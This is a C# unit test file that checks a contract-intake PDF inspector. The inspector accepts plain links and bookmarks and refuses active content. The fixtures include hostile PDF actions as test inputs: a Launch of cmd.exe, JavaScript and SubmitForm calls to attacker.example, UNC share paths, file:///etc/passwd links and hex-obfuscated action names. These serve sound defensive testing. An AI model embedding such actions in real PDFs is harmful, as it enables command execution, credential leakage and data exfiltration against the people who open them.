using System.Text;
using ContractDocs.Intake;

namespace ContractDocs.Tests.Intake;

/// <summary>PDF actions told from destinations, judged by what sets them off: opening the file or a click.</summary>
public sealed partial class DocumentInspectorTests
{
    [Theory]
    [InlineData("/OpenAction [3 0 R /Fit]")]
    [InlineData("/OpenAction [3 0 R /XYZ null null 0]")]
    [InlineData("/OpenAction[3 0 R/FitH 792]")]
    [InlineData("/OpenAction (Contract)")]
    [InlineData("/OpenAction /Contract")]
    [InlineData("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")]
    [InlineData("/OpenAction << /Type /Action /S /GoTo /D (Contract) /Next << /S /GoTo /D [3 0 R /FitB] >> >>")]
    [InlineData("/OpenAction 5 0 R")]
    public void Inspect_PdfOpeningOnADestinationOrAGoTo_IsAccepted(string catalogExtra)
    {
        var bytes = PdfBuilder.Build(catalogExtra, "[3 0 R /XYZ 0 792 0]");

        AssertAccepted(DocumentInspector.Inspect(bytes, "contract.pdf", Limits), DocumentKind.Pdf, bytes);
    }

    [Theory]
    [InlineData("/OpenAction << /S /URI /URI (https://tracker.example.com/opened) >>", "OpenAction /URI")]
    [InlineData("/OpenAction << /S /Named /N /Print >>", "OpenAction /Named")]
    [InlineData("/OpenAction << /S /Named /N /NextPage >>", "OpenAction /Named")]
    [InlineData("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example.com/) >> >>", "OpenAction /URI")]
    [InlineData("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>", "OpenAction /URI")]
    [InlineData("/OpenAction << /D [3 0 R /Fit] >>", "OpenAction")]
    [InlineData("/Open#41ction << /#53 /#55RI /URI (https://tracker.example.com/) >>", "OpenAction /URI")]
    public void Inspect_PdfWithAnActionThatRunsOnOpening_IsRefused(string catalogExtra, string name)
    {
        var bytes = PdfBuilder.Build(catalogExtra, "<< /S /URI /URI (https://tracker.example.com/chained) >>");

        var result = DocumentInspector.Inspect(bytes, "contract.pdf", Limits);

        AssertRefused(result, IntakeCodes.PdfActiveContent);
        Assert.Contains($"(/{name})", result.Reason, StringComparison.Ordinal);
        Assert.Contains("when the file is opened", result.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_PdfWhoseOpenActionRunsJavaScript_IsRefused()
    {
        var bytes = PdfBuilder.Build("/OpenAction 5 0 R", "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('https://attacker.example/'\\)) >>");

        var result = DocumentInspector.Inspect(bytes, "contract.pdf", Limits);

        AssertRefused(result, IntakeCodes.PdfActiveContent);
        Assert.Contains("JavaScript", result.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_PdfWhoseNextActionsLoop_IsJudgedOnceEachAndAccepted()
    {
        var bytes = PdfBuilder.Build("/OpenAction 5 0 R", "<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", "<< /S /GoTo /D [3 0 R /FitH 700] /Next [5 0 R] >>");

        AssertAccepted(DocumentInspector.Inspect(bytes, "contract.pdf", Limits), DocumentKind.Pdf, bytes);
    }

    [Theory]
    [InlineData("<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://www.england.nhs.uk/) >> >>")]
    [InlineData("<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /Type /Action /S /URI /URI (mailto:procurement@example.nhs.uk) >> >>")]
    [InlineData("<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /Dest [3 0 R /XYZ 0 792 0] >>")]
    [InlineData("<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /GoTo /D (Schedule1) >> >>")]
    [InlineData("<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /Named /N /NextPage >> >>")]
    [InlineData("<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI <68747470733a2f2f7777772e6e68732e756b2f> >> >>")]
    public void Inspect_PdfWithLinksToPagesOrWebOrMail_IsAccepted(string annotation)
    {
        var bytes = PdfBuilder.WithPage("/Annots [5 0 R]", "", annotation);

        AssertAccepted(DocumentInspector.Inspect(bytes, "contract.pdf", Limits), DocumentKind.Pdf, bytes);
    }

    [Theory]
    [InlineData("/A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>", "file:///C:/Windows/System32/calc.exe")]
    [InlineData("/A << /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x.docx) >>", "attacker.example")]
    [InlineData("/A << /S /URI /URI (http://example.com/contract) >>", "http://example.com/contract")]
    [InlineData("/A << /S /URI /URI (javascript:app.alert\\(1\\)) >>", "javascript:")]
    [InlineData("/A << /S /URI /URI (contract.docx) >>", "contract.docx")]
    [InlineData("/A << /S /URI >>", "no address")]
    public void Inspect_PdfLinkToAFileUncOrNonHttpsAddress_IsRefused(string action, string quoted)
    {
        var bytes = PdfBuilder.WithPage("/Annots [5 0 R]", "", $"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] {action} >>");

        var result = DocumentInspector.Inspect(bytes, "contract.pdf", Limits);

        AssertRefused(result, IntakeCodes.PdfActiveContent);
        Assert.Contains("not a web (https) or email (mailto) address", result.Reason, StringComparison.Ordinal);
        Assert.Contains(quoted, result.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>", "Launch")]
    [InlineData("/A << /S /JavaScript /JS (app.alert\\(1\\)) >>", "JavaScript")]
    [InlineData("/A << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>", "GoToR")]
    [InlineData("/A << /S /GoToE /T << /R /C /N (x) >> >>", "GoToE")]
    [InlineData("/A << /S /Named /N /Print >>", "A /Named")]
    [InlineData("/A << /S /ResetForm >>", "ResetForm")]
    [InlineData("/A << /S /Hide /T (Clause 12) >>", "Hide")]
    [InlineData("/A << /S /SetOCGState /State [/Toggle 6 0 R] >>", "SetOCGState")]
    [InlineData("/A << /S /Rendition /OP 0 >>", "Rendition")]
    [InlineData("/A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>", "SubmitForm")]
    [InlineData("/A << /S /ImportData /F (C:\\data.fdf) >>", "ImportData")]
    [InlineData("/A << /S /Movie /T (intro) >>", "A /Movie")]
    [InlineData("/A << /S /Thread /D 0 >>", "A /Thread")]
    [InlineData("/A << /URI (https://www.england.nhs.uk/) >>", "A")]
    [InlineData("/A << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (file:///etc/passwd) >> >>", "not a web (https)")]
    [InlineData("/AA << /E << /S /GoTo /D [3 0 R /Fit] >> >>", "AA")]
    [InlineData("/PA << /S /Launch /F (x.exe) >>", "Launch")]
    public void Inspect_PdfLinkAnnotationWithADangerousAction_IsRefused(string action, string name)
    {
        var bytes = PdfBuilder.WithPage("/Annots [5 0 R]", "", $"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] {action} >>", "<< /Type /OCG /Name (Layer) >>");

        var result = DocumentInspector.Inspect(bytes, "contract.pdf", Limits);

        AssertRefused(result, IntakeCodes.PdfActiveContent);
        Assert.Contains(name.StartsWith("not", StringComparison.Ordinal) ? name : $"(/{name}", result.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>", "", "AA")]
    [InlineData("/A#41 << /C << /S /GoTo /D [3 0 R /Fit] >> >>", "", "AA")]
    [InlineData("/Annots [5 0 R]", "<< /Type /Annot /Subtype /Widget /FT /Tx /T (Amount) /Rect [72 600 200 620] /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\)) >> >> >>", "JavaScript")]
    [InlineData("/Annots [5 0 R]", "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (invoice.exe) >> >>", "FileAttachment")]
    [InlineData("/Annots [5 0 R]", "<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] >>", "Screen")]
    [InlineData("/Annots [5 0 R]", "<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] >>", "3D")]
    public void Inspect_PdfPageOrAnnotationThatActsOrCarriesFiles_IsRefused(string pageExtra, string annotation, string name)
    {
        var bytes = annotation.Length == 0 ? PdfBuilder.WithPage(pageExtra) : PdfBuilder.WithPage(pageExtra, "", annotation);

        var result = DocumentInspector.Inspect(bytes, "contract.pdf", Limits);

        AssertRefused(result, IntakeCodes.PdfActiveContent);
        Assert.Contains($"(/{name}", result.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_PdfFormFieldWithJavaScriptInTheAcroForm_IsRefused()
    {
        var bytes = PdfBuilder.Build("/AcroForm << /Fields [5 0 R] /DA (/Helv 0 Tf 0 g) >>",
            "<< /FT /Tx /T (Total) /Kids [] /AA << /C << /S /JavaScript /JS (AFSimple_Calculate\\('SUM', ['a']\\)) >> >> >>");

        var result = DocumentInspector.Inspect(bytes, "contract.pdf", Limits);

        AssertRefused(result, IntakeCodes.PdfActiveContent);
        Assert.Contains("JavaScript", result.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_PdfWithAnOutlineOfGoToBookmarks_IsAccepted()
    {
        var bytes = PdfBuilder.Build("/Outlines 5 0 R /PageMode /UseOutlines",
            "<< /Type /Outlines /First 6 0 R /Last 7 0 R /Count 2 >>",
            "<< /Title (1. Definitions) /Parent 5 0 R /Next 7 0 R /A << /S /GoTo /D [3 0 R /XYZ 0 700 0] >> >>",
            "<< /Title (Schedule 1) /Parent 5 0 R /Prev 6 0 R /Dest [3 0 R /XYZ 0 400 0] >>");

        AssertAccepted(DocumentInspector.Inspect(bytes, "contract.pdf", Limits), DocumentKind.Pdf, bytes);
    }

    [Fact]
    public void Inspect_PdfBookmarkThatOpensAWebAddressOnClick_IsAcceptedButNotOnOpening()
    {
        var bookmark = "<< /Title (Guidance) /Parent 5 0 R /A << /S /URI /URI (https://www.england.nhs.uk/) >> >>";
        var onClick = PdfBuilder.Build("/Outlines 5 0 R", "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>", bookmark);
        var onOpening = PdfBuilder.Build("/Outlines 5 0 R /OpenAction << /S /URI /URI (https://www.england.nhs.uk/) >>", "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>", bookmark);

        AssertAccepted(DocumentInspector.Inspect(onClick, "contract.pdf", Limits), DocumentKind.Pdf, onClick);
        AssertRefused(DocumentInspector.Inspect(onOpening, "contract.pdf", Limits), IntakeCodes.PdfActiveContent);
    }

    [Fact]
    public void Inspect_UnreferencedObjectWithADangerousLink_IsRefused()
    {
        var bytes = PdfBuilder.Build("", "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (file:///etc/passwd) >> >>");
        Assert.DoesNotContain("5 0 R", Encoding.Latin1.GetString(bytes), StringComparison.Ordinal);

        AssertRefused(DocumentInspector.Inspect(bytes, "contract.pdf", Limits), IntakeCodes.PdfActiveContent);
    }
}
